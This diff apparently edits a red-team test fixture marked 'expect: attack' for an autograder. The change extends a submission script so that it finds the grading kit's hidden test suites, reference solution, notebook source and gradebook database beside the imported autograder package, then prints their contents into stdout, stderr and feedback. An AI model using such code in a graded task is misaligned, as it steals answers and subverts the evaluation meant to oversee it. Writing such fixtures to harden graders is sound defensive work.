@@ -1,5 +1,5 @@
 # expect: attack
-# why: searches the disk for the hidden suites, solutions, calibration files, nbgrader source and gradebook, and prints them into stdout, stderr and its error messages (which reach the feedback).
+# why: searches the disk for the hidden suites, solutions, calibration files, nbgrader source and gradebook, opens them where a clone of the kit keeps them beside the autograder package it imports, and prints them into stdout, stderr and its error messages (which reach the feedback).
 import os
 import sys
 
@@ -79,6 +79,23 @@ for _root in _roots():
                     _loot.append((_path, _fh.read(4000)))
             except OSError:
                 pass
+# Where a clone of the kit keeps them, beside the autograder package this run imports (its layout is public).
+_kit = os.path.dirname(os.path.abspath(list(getattr(sys.modules.get("autograder"), "__path__", ["."]))[0]))
+for _guess in (
+    "solutions/weight_tying.py",
+    "autograder/graders/weight_tying/judge/suite/test_identity.py",
+    "autograder/graders/weight_tying/judge/reference.py",
+    "assignments/source/weight_tying/weight_tying.ipynb",
+    "assignments/gradebook.db",
+):
+    _path = os.path.join(_kit, _guess)
+    try:
+        with open(_path, errors="replace") as _fh:
+            if _path not in _seen:
+                _seen.add(_path)
+                _loot.append((_path, _fh.read(4000)))
+    except OSError:
+        pass
 for _path, _text in _loot:
     print(_MARK, _path, "\n", _text, flush=True)
     print(_MARK, _path, "\n", _text[:500], file=sys.stderr, flush=True)
